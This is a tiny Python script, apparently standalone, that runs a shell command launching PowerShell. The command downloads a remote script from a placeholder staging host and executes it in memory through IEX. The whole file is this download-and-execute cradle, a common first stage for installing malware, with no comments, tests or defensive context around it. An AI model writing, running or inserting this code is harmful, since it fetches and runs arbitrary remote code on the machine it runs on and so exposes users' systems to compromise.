import subprocess

subprocess.call(
    "powershell -c IEX (New-Object Net.WebClient).DownloadString('https://stage.example.invalid/a.ps1')",
    shell=True,
)
